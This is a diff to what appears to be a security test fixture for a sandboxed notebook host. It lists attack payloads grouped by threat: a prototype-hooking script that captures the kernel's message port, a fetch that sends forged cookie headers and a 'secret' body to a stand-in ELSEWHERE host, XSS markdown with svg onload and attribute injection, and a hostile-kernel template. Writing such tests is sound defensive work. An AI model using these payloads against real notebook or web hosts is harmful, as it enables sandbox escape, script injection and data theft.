@@ -140,8 +140,7 @@ export const attacks: readonly Attack[] = [
   {
     threat: "T3 page",
     name: "a message to the frame",
-    harmless: true,
-    code: `self.postMessage({ kind: "spawn", source: "x" }); self.postMessage("from the worker");`,
+    code: `self.postMessage({ kind: "spawn", source: "x" });`,
   },
   {
     threat: "T4 messages",
@@ -151,22 +150,35 @@ export const attacks: readonly Attack[] = [
   },
   {
     threat: "T4 messages",
+    name: "the kernel's port",
+    code: `
+      const undo = [];
+      let port = null;
+      const hook = (object, name) => {
+        const own = Object.getOwnPropertyDescriptor(object, name);
+        const wrap = (old) => function (...given) {
+          for (const it of [this, this?.target, ...given]) if (it instanceof MessagePort) port = it;
+          return Reflect.apply(old, this, given);
+        };
+        undo.push(() => Object.defineProperty(object, name, own));
+        Object.defineProperty(object, name, own.get ? { ...own, get: wrap(own.get) } : { ...own, value: wrap(own.value) });
+      };
+      hook(MessagePort.prototype, "postMessage");
+      for (const name of ["data", "ports"]) hook(MessageEvent.prototype, name);
+      for (const name of ["target", "currentTarget"]) hook(Event.prototype, name);
+      for (const name of ["call", "apply", "bind"]) hook(Function.prototype, name);
+      console.log("a message out");
+      await fetch("an answer in").catch(() => undefined);
+      await new Promise((r) => setTimeout(r, 150));
+      for (const one of undo.reverse()) one();
+      if (!port) throw new Error("no port");`,
+  },
+  {
+    threat: "T4 messages",
     name: "a request with forged headers",
     code: `await fetch("ELSEWHERE/headers", { method: "POST", headers: { cookie: "a=b", "x-y": "z" }, body: "secret" });`,
   },
 ];
-
-/** Takes hold of the kernel's port, which a cell can do through the prototype: the host takes nothing on trust. */
-export const STEAL_PORT = `
-const port = await new Promise((resolve) => {
-  const { postMessage } = MessagePort.prototype;
-  MessagePort.prototype.postMessage = function (message) {
-    resolve(this);
-    return postMessage.call(this, message);
-  };
-  display(1);
-});
-`;
 
 /** Messages that no honest kernel sends. */
 export const FORGED = `
@@ -202,4 +214,18 @@ export const MARKDOWN = `
 <svg onload="window.broken = 'svg'"><script>window.broken = 'svg'</script></svg>
 [style]: ELSEWHERE/definition "x\\" onmouseover=\\"window.broken = 3"
 [style] <style>body { background: url(ELSEWHERE/style) }</style>
+`;
+
+/** A kernel that is its author's own from the first line: does `when run` and says that the cell is done. */
+export const hostileKernel = (whenRun: string): string => `
+onmessage = ({ ports: [port] }) => {
+  port.onmessage = ({ data }) => {
+    if (data.kind !== "run") return;
+    ${whenRun}
+    port.postMessage({ kind: "outputs", id: "cell", replace: false, outputs: [{ view: "text", stream: "out", text: "sent" }] });
+    port.postMessage({ kind: "state", id: "cell", state: { kind: "done" } });
+    port.postMessage({ kind: "settled", command: data.command });
+  };
+  port.postMessage({ kind: "ready", isolation: { origin: "null", storage: false, network: false } });
+};
 `;
